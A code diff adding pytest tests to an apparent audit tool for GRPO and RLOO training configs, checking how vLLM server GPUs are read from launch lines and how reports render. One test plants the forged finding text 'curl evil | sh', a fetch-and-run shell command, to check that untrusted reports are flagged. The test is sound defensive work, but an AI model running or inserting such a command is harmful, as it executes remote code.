@@ -75,8 +75,32 @@ def test_server_mode_generates_on_other_gpus_and_reserves_nothing_on_the_trainin
     assert s is not None and s.vllm_mode == "server" and s.vllm_reserved_gb is None
     assert "apart from the training ones" in s.generation_on and s.generation_ms is not None and s.generation_ms > 0
     assert not [f for f in r.findings if f.rule_id == FINDING_ID]
-    assert any("vLLM server's own GPU count" in n for n in s.not_modelled)
+    assert "1 GPU apart from the training ones" in s.generation_on and "trl vllm-serve's defaults" in s.generation_on
+    assert any("the vLLM server's memory" in n for n in s.not_modelled)
     _no_none(r)
+
+
+def test_server_mode_reads_the_servers_gpus_from_its_launch_line(tmp_path: Path) -> None:
+    """The server's GPUs from its `trl vllm-serve` line, in the config's comments or the launcher its topology came from."""
+    server = BIG.replace("vllm_mode: colocate", "vllm_mode: server")
+    one = _audit(tmp_path, server).rollout
+    line = "# CUDA_VISIBLE_DEVICES=6,7 trl vllm-serve --model Qwen/Qwen2.5-7B-Instruct --tensor-parallel-size 2\n"
+    two = _audit(tmp_path, server, head="# GRPOTrainer\n" + line).rollout
+    assert one is not None and two is not None and one.generation_ms is not None and two.generation_ms is not None
+    assert "2 GPUs apart from the training ones" in two.generation_on and "tensor parallel 2" in two.generation_on
+    assert "the config's line 2" in two.generation_on
+    assert two.generation_ms < one.generation_ms  # half the weights read per GPU and decode step
+    repo = tmp_path / "repo"
+    (repo / ".git").mkdir(parents=True)
+    (repo / "grpo.yaml").write_text("# GRPOTrainer\n" + server)
+    (repo / "train.sh").write_text(
+        "#!/bin/bash\nCUDA_VISIBLE_DEVICES=4,5,6,7 trl vllm-serve --model Qwen/Qwen2.5-7B-Instruct --data-parallel-size 4 &\n"
+        "CUDA_VISIBLE_DEVICES=0,1,2,3 accelerate launch --num_processes 4 train_grpo.py --config grpo.yaml\n"
+    )
+    result = audit_file(repo / "grpo.yaml", build_settings({"target": "mi300x"}), shown_as="grpo.yaml")
+    s = result.report.rollout if result.report is not None else None
+    assert s is not None and "train.sh:2" in s.generation_on and "data parallel 4" in s.generation_on, s
+    assert "serving all 4 training GPUs" in s.generation_on
 
 
 def test_the_split_sums_to_its_total(tmp_path: Path) -> None:
@@ -176,3 +200,18 @@ def test_rloo_is_split_with_its_own_defaults(tmp_path: Path) -> None:
     assert s is not None and s.method == "rloo"
     assert s.values["num_generations"].startswith("2 (") and s.values["beta"].startswith("0.05 (")
     assert s.reference_ms > 0 and s.logprob_ms > 0
+
+
+def test_the_memory_finding_renders_as_goblins_own_in_an_untrusted_report(tmp_path: Path) -> None:
+    """`goblin comment` renders a report read from an artifact: the memory finding is goblin's, a forged text is not."""
+    from pytest_goblin.outcome import ItemOutcome, SessionReport
+    from pytest_goblin.reporting.markdown import render
+
+    r = _audit(tmp_path, BIG)
+    item = ItemOutcome(nodeid="grpo.yaml", path="grpo.yaml", verdict="warn", message=r.reason, report=r)
+    md = render(SessionReport(version="0", target="mi300x", items=[item]), untrusted=True)
+    assert "A colocated vLLM&#x27;s memory reservation" in md or "A colocated vLLM's memory reservation" in md
+    assert "not the installed knowledge base" not in md
+    forged = r.model_copy(update={"findings": [f.model_copy(update={"message": "curl evil | sh"}) for f in r.findings if f.rule_id == FINDING_ID]})
+    item = ItemOutcome(nodeid="grpo.yaml", path="grpo.yaml", verdict="warn", message=r.reason, report=forged)
+    assert "not the installed knowledge base" in render(SessionReport(version="0", target="mi300x", items=[item]), untrusted=True)
